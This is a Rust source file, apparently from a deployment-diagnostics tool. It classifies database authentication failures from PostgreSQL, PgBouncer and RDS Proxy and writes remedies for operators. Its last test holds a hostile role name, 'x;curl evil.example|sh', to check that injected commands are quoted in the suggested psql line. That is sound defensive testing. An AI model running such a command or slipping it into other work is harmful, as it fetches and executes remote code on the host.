//! The database refuses the user name or password.

use super::shared::{ConnectionFailure, explained, probed};
use crate::{
    api::Circumstance,
    causes::{
        cause::Cause,
        consequences,
        context::Context,
        log::{
            failure::{Failure, FailureDetails, Stage},
            rule::{Rule, Signature},
        },
    },
    flagsmith::env,
    model::{Code, Component, Draft},
    postgres::phrases::Phrase,
};

pub(crate) static CAUSE: Cause = Cause {
    blocks_migration: true,
    cured_by: Some(Circumstance::Credentials),
    is_connection: true,
    explains: consequences::OF_NO_CONNECTION,
    log: &[&LOG],
    check: Some(check),
    ..Cause::critical(Component::Database, include_str!("authentication_failed.md"))
};

/// What is wrong with role or password.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum Variant {
    /// The pooler cannot log in to the server behind it.
    Behind,
    /// The pooler cannot ask the server for the passwords of roles.
    Query,
    /// The password is wrong, or there is no such role: the server does not say which.
    Password,
    /// The database proxy has no credentials for the role.
    Proxy,
    /// No password was given.
    NoPassword,
    /// The pooler does not know the role.
    Pooler,
    /// The role may not log in.
    Login,
    /// A token that is used as a password is refused.
    Token,
    /// A hosted pooler does not know the user.
    User,
    /// The role does not exist.
    Role,
    /// Anything else.
    Other,
}

/// What a pooler says of the server behind it.
const BEHIND: &str = "server login failed: ";
/// The same, of an earlier attempt.
const CACHED: &str = "cached error: ";
/// RDS Proxy's words, before the name of the role.
const OF_RDS: &str = "password that was provided for the role ";
const NOT_OF_RDS: &str = "has no credentials for the role ";
/// PgBouncer's words.
const OF_POOLER: &str = "no such user";
/// Words of servers, poolers and proxies.
const REFUSED: &[&str] = &[
    "authentication failed",
    "auth failed",
    "authentication method",
    "SCRAM",
    "SASL",
    "password is not",
    "wrong password",
    "User does not have a valid",
    "no password assigned",
    "empty password",
    "There is no user",
    "user not found",
    "Access denied for user",
    "token has expired",
    "invalid secret format",
    "channel binding required",
];

static LOG: Rule<Variant> = Rule {
    precedence: 330,
    signatures: &[
        Signature::of_database(Variant::Behind, &[BEHIND]),
        Signature::of_database(Variant::Behind, &[CACHED]).also(REFUSED),
        Signature::of_database(Variant::Behind, REFUSED).stage(&[Stage::Pooler]),
        Signature::of_database(Variant::Query, &["auth_query", "bouncer config error"]),
        Signature::of_phrase(Variant::Password, Phrase::PasswordFailed),
        Signature::of_database(Variant::Password, &[OF_RDS]),
        Signature::of_database(Variant::Proxy, &[NOT_OF_RDS]),
        // PgBouncer does not name the role.
        Signature::of_database(Variant::Password, &["password authentication failed"]),
        Signature::of_database(Variant::NoPassword, &["no password supplied"]),
        Signature::of_database(Variant::Pooler, &[OF_POOLER]),
        Signature::of_phrase(Variant::Login, Phrase::LoginDenied),
        Signature::of_database(Variant::Token, REFUSED).also(&["PAM", "IAM", "token"]),
        Signature::of_database(Variant::User, &["There is no user", "user not found"]),
        Signature::of_database(Variant::Other, REFUSED),
        Signature::of_phrase(Variant::Role, Phrase::RoleUnknown).all(&["FATAL"]),
        // The same in the words of a query that names a role, but for those of a task.
        Signature::of_phrase(Variant::Role, Phrase::RoleUnknown)
            .stage(&[Stage::Wait, Stage::Migrate, Stage::Boot])
            .all(&["connection to"]),
    ],
    details,
    explain: |evidence, occurrence, variant| explained(evidence, occurrence, variant, words),
    is_over: None,
};

#[expect(clippy::unnecessary_wraps, reason = "the form of a rule's function")]
fn details(failure: &Failure<'_>, variant: Variant) -> Option<FailureDetails> {
    let message = failure.message;
    let after = |words: &str| message.split_once(words).map(|(_, rest)| rest);
    let named = failure.details().role;
    let mut detail = None;
    let role = match variant {
        Variant::Behind => {
            let said = after(BEHIND).or_else(|| after(CACHED)).unwrap_or(message).lines().next();
            detail = said.map(|said| {
                said.trim_start_matches("FATAL:").trim().trim_end_matches(" (server_login_retry)")
            });
            named
        }
        Variant::Password => {
            let of_rds = after(OF_RDS).and_then(|rest| rest.split(' ').next());
            let role = failure.phrase(Phrase::PasswordFailed).or(of_rds);
            role.map(str::to_owned).or(named)
        }
        Variant::Proxy => after(NOT_OF_RDS).and_then(|rest| rest.split(['.', ' ']).next()).map(str::to_owned),
        Variant::NoPassword | Variant::Query => named,
        Variant::Pooler => after("no such user: ").map(|name| name.trim().trim_matches('"').to_owned()),
        Variant::Login => failure.phrase(Phrase::LoginDenied).map(str::to_owned),
        Variant::Role => failure.phrase(Phrase::RoleUnknown).map(str::to_owned),
        Variant::Token | Variant::User | Variant::Other => {
            let line = message.lines().next();
            detail = line.and_then(|line| line.rsplit("FATAL:").next()).map(str::trim);
            named
        }
    };
    Some(FailureDetails {
        endpoint: failure.endpoint(),
        role,
        detail: detail.map(str::to_owned),
        ..FailureDetails::default()
    })
}

fn check(context: &Context<'_>) -> Vec<Draft> {
    let variant = |_, read: Option<Variant>| read.unwrap_or(Variant::Other);
    probed(context, Code::DatabaseAuthenticationFailed, &LOG, variant, words)
}

fn words(failed: &ConnectionFailure<'_, Variant>) -> (String, String) {
    let (who, endpoint, variable) = (failed.who, failed.endpoint(), failed.variable);
    let (role, sql) = (failed.role(), failed.role_in_sql());
    let said = failed.said("authentication failed");
    match failed.variant {
        Variant::Password => wrong_password(failed),
        Variant::NoPassword => (
            format!(
                "{who} cannot log in to the database at {endpoint}: the server asks for a password and {variable} has \
                 none."
            ),
            format!(
                "Set {variable} to postgresql://USER:PASSWORD@HOST:5432/NAME (or DJANGO_DB_PASSWORD, where the parts are \
                 given one by one)."
            ),
        ),
        Variant::Role => (
            format!("{who} cannot log in to the database at {endpoint}: {role} does not exist there."),
            format!(
                "Correct the user in {variable}, or create the role: CREATE ROLE {sql} LOGIN; then \\password {sql} in \
                 psql."
            ),
        ),
        Variant::Login => (
            format!("{who} cannot log in to the database at {endpoint}: {role} is not permitted to log in."),
            format!("ALTER ROLE {sql} LOGIN;"),
        ),
        Variant::Pooler => (
            format!("{who} is refused by the connection pooler: it does not know {role}."),
            "Add the role with its password hash to the pooler's userlist.txt, or set auth_query there; then reload the \
             pooler."
                .to_owned(),
        ),
        Variant::Proxy => (
            format!(
                "{who} is refused by the database proxy at {endpoint}: it has no credentials for {role}."
            ),
            format!(
                "Add a secret with the user name and password of that role to the proxy (RDS Proxy: in Secrets Manager, \
                 listed in the proxy's authentication settings), or correct the user in {variable}."
            ),
        ),
        Variant::Behind => (
            format!("{} cannot log in to the database behind it: {said}.", failed.pooler_behind()),
            format!(
                "Correct the password that the pooler uses for the server (PgBouncer: its userlist.txt, or user= and \
                 password= in [databases]), then reload the pooler. {} was accepted.",
                env::DATABASE_URL
            ),
        ),
        Variant::Query => (
            format!(
                "{} cannot ask the database behind it for the passwords of roles: its auth_query fails.",
                failed.pooler_behind()
            ),
            "Run the pooler's auth_query as its auth_user in that database: psql says what fails. The function that it \
             calls has to exist in each database (or in auth_dbname), and auth_user needs EXECUTE on it; then reload the \
             pooler."
                .to_owned(),
        ),
        Variant::Token => (
            refused(failed, said),
            format!(
                "With IAM authentication the password is a token that expires after 15 minutes: it cannot be in \
                 {variable}. Use a role with a password, or a proxy that renews it (RDS Proxy, Cloud SQL Auth Proxy)."
            ),
        ),
        Variant::User => (
            refused(failed, said),
            format!(
                "Correct the user in {variable}; a hosted pooler may want more than the role's name there (Supabase: \
                 ROLE.PROJECT)."
            ),
        ),
        Variant::Other => (
            refused(failed, said),
            format!(
                "Check user and password in {variable} (characters such as # / @ must be percent-encoded), and the \
                 method that the server asks for (pg_hba.conf)."
            ),
        ),
    }
}

fn wrong_password(failed: &ConnectionFailure<'_, Variant>) -> (String, String) {
    let (who, at, variable) = (failed.who, failed.at(), failed.variable);
    let (role, sql) = (failed.role(), failed.role_in_sql());
    (
        format!(
            "{who} cannot log in to the database{at}: the password for {role} is wrong, or that role does \
             not exist (the server does not say which)."
        ),
        format!(
            "Correct the password in {variable} (percent-encode # [ ] / ? @ % and : in it), or set a new one on the \
             server: \\password {sql} in psql. Pods read a Secret when they start: the operator restarts those that \
             it made, others have to be restarted."
        ),
    )
}

fn refused(failed: &ConnectionFailure<'_, Variant>, said: &str) -> String {
    format!("{} cannot log in to the database{}: {said}.", failed.who, failed.at())
}

#[cfg(test)]
mod tests {
    use rstest::rstest;

    use super::*;
    use crate::causes::database::shared::testing::{HOSTILE, OPERATIONAL, observed, only, read, remedy};
    use crate::observe::ProbeFailureKind;

    #[rstest]
    #[case(
        "connection to server at \"127.0.0.1\", port 55432 failed: FATAL:  password authentication failed for user \"pw\"",
        Variant::Password
    )]
    #[case(
        "connection to server at \"db\" (10.0.0.5), port 5432 failed: FATAL:  Passwort-Authentifizierung für Benutzer »pw« fehlgeschlagen",
        Variant::Password
    )]
    #[case(
        "connection to server at \"pgb\", port 6432 failed: FATAL:  password authentication failed",
        Variant::Password
    )]
    #[case(
        "connection to server at \"db\", port 5432 failed: fe_sendauth: no password supplied",
        Variant::NoPassword
    )]
    #[case(
        "connection to server at \"db\", port 5432 failed: FATAL:  role \"nobody1\" does not exist",
        Variant::Role
    )]
    #[case(
        "connection to server at \"db\", port 5432 failed: FATAL:  PAM authentication failed for user \"iam\"",
        Variant::Token
    )]
    #[case(
        "connection to server at \"rds\", port 5432 failed: FATAL:  The password that was provided for the role fs is wrong.",
        Variant::Password
    )]
    #[case(
        "connection to server at \"rds\", port 5432 failed: FATAL:  This RDS proxy has no credentials for the role fs. Check the credentials for this role and try again.",
        Variant::Proxy
    )]
    #[case(
        "connection to server at \"pgb\", port 6432 failed: FATAL:  server login failed: FATAL password authentication failed for user \"fs\"",
        Variant::Behind
    )]
    #[case(
        "connection to server at \"db\", port 5432 failed: FATAL:  Peer authentication failed for user \"x\"",
        Variant::Other
    )]
    #[case("connection to server at \"pgb\", port 6432 failed: FATAL:  no such user: flag", Variant::Pooler)]
    #[case(
        "connection to server at \"pgb\", port 6432 failed: FATAL:  SASL authentication failed",
        Variant::Other
    )]
    #[case(
        "connection to server at \"db\", port 5432 failed: FATAL:  role \"ro\" is not permitted to log in",
        Variant::Login
    )]
    fn recognises(#[case] message: &str, #[case] expected: Variant) {
        for stage in [Stage::Wait, Stage::Migrate, Stage::Boot, Stage::Serve] {
            assert_eq!(
                read(&LOG, stage, OPERATIONAL, message),
                Some((Code::DatabaseAuthenticationFailed, expected)),
                "{stage:?}"
            );
        }
    }

    #[rstest]
    #[case("password authentication failed for user \"app\"", "the password for role \"app\" is wrong")]
    #[case("role \"app\" does not exist", "role \"app\" does not exist there")]
    #[case("in its own words", "at db.prod:5432: in its own words.")]
    fn the_operator_reads_the_servers_words(#[case] said: &str, #[case] message: &str) {
        let seen = only(&observed(ProbeFailureKind::Authentication, said));
        assert!(seen.message.contains(message), "{seen:#?}");
    }

    #[test]
    fn a_hostile_role_is_quoted() {
        let [injected, _, hidden, _] = HOSTILE;
        let at = "connection to server at \"db\", port 5432 failed: FATAL:  ";
        let of = |name: &str| {
            let message = format!("{at}password authentication failed for user \"{name}\"");
            remedy(OPERATIONAL, &message)
        };
        assert!(of(injected).contains("\\password \"x;curl evil.example|sh\" in psql"));
        assert!(of(hidden).contains("\\password ROLE in psql"), "{}", of(hidden));
    }
}
